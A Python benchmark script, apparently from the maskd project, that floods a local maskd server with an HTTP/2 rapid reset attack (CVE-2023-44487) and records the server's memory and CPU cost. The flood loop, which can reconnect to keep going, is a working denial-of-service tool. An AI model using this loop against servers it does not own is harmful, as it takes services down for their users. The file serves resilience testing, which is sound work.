#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) against a running maskd, and what it costs.

One connection sends many HEADERS (a real maskd method, Maskd/Ping) each followed at
once by RST_STREAM(CANCEL); meanwhile and afterwards the server's RSS and CPU seconds
are sampled from /proc/<pid>. Not in the default suite (needs python3-h2, Debian's
package; scripts/install-deps.sh installs it). Results: docs/reliability.md.

  python3 bench/soak/rapid_reset.py --pid PID --addr 127.0.0.1:50051 --streams 200000
  python3 bench/soak/rapid_reset.py --pid PID --addr unix:///tmp/maskd.sock

Prints one JSON line: streams sent, seconds, RSS before / peak / after (MB), CPU
seconds the server used during the flood and in the --after seconds that follow,
whether the (last) connection was closed by the server, and how many were opened
(--reconnect: a new one each time the server closes one, until --streams are sent).
"""
import argparse
import json
import os
import socket
import threading
import time

import h2.config
import h2.connection
import h2.errors
import h2.exceptions


def proc_sample(pid):
    with open(f"/proc/{pid}/status") as f:
        rss_kb = next(int(l.split()[1]) for l in f if l.startswith("VmRSS:"))
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    ticks = int(fields[11]) + int(fields[12])  # utime + stime
    return rss_kb / 1024.0, ticks / os.sysconf("SC_CLK_TCK")


def connect(addr):
    if addr.startswith("unix://"):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(addr[len("unix://"):])
        return s, "localhost"
    host, port = addr.rsplit(":", 1)
    s = socket.create_connection((host.strip("[]"), int(port)))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s, addr


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--pid", type=int, required=True)
    ap.add_argument("--addr", required=True)
    ap.add_argument("--streams", type=int, default=200000)
    ap.add_argument("--batch", type=int, default=500)
    ap.add_argument("--after", type=float, default=20.0, help="seconds sampled after the flood")
    ap.add_argument("--reconnect", action="store_true", help="open a new connection whenever one is closed")
    a = ap.parse_args()

    rss0, cpu0 = proc_sample(a.pid)
    peak = [rss0]
    stop = threading.Event()

    def sampler():
        while not stop.is_set():
            try:
                peak[0] = max(peak[0], proc_sample(a.pid)[0])
            except (FileNotFoundError, ProcessLookupError):
                return
            time.sleep(0.1)

    t = threading.Thread(target=sampler, daemon=True)
    t.start()

    sent = 0
    closed = False
    connections = 0
    start = time.time()

    def open_conn():
        nonlocal sock, conn, stream_id, closed, connections, headers
        sock, authority = connect(a.addr)
        sock.setblocking(False)
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        conn.initiate_connection()
        headers = [(":method", "POST"), (":scheme", "http"), (":authority", authority),
                   (":path", "/maskd.v1.Maskd/Ping"), ("content-type", "application/grpc"),
                   ("te", "trailers")]
        stream_id = 1
        closed = False
        connections += 1

    sock = conn = headers = None
    stream_id = 1
    open_conn()

    def pump():
        nonlocal closed
        try:
            while True:
                data = sock.recv(1 << 20)
                if not data:
                    closed = True
                    return
                try:
                    conn.receive_data(data)
                except h2.exceptions.ProtocolError:
                    closed = True
                    return
        except BlockingIOError:
            pass
        except (ConnectionResetError, BrokenPipeError):
            closed = True

    while sent < a.streams:
        if closed:
            if not a.reconnect:
                break
            sock.close()
            try:
                open_conn()
            except OSError:
                time.sleep(0.01)
                continue
        for _ in range(a.batch):
            if stream_id > 2**31 - 1:
                break
            try:
                # h2 enforces the peer's SETTINGS_MAX_CONCURRENT_STREAMS; an attacker does not:
                # each stream is reset at once, so it never counts against the limit anyway.
                conn.send_headers(stream_id, headers, end_stream=False)
                conn.reset_stream(stream_id, error_code=h2.errors.ErrorCodes.CANCEL)
            except h2.exceptions.TooManyStreamsError:
                break
            stream_id += 2
            sent += 1
        out = conn.data_to_send()
        view = memoryview(out)
        while view and not closed:
            try:
                n = sock.send(view)
                view = view[n:]
            except BlockingIOError:
                pump()
                time.sleep(0.001)
            except (ConnectionResetError, BrokenPipeError):
                closed = True
        pump()
    flood_s = time.time() - start
    rss_end, cpu_end = proc_sample(a.pid)
    time.sleep(a.after)
    rss_after, cpu_after = proc_sample(a.pid)
    stop.set()
    t.join()
    sock.close()
    print(json.dumps({
        "streams": sent, "flood_s": round(flood_s, 2),
        "rss_before_mb": round(rss0, 1), "rss_peak_mb": round(peak[0], 1),
        "rss_after_mb": round(rss_after, 1),
        "cpu_s_during": round(cpu_end - cpu0, 2),
        "cpu_s_after": round(cpu_after - cpu_end, 2), "after_s": a.after,
        "closed_by_server": closed, "connections": connections}))


if __name__ == "__main__":
    main()
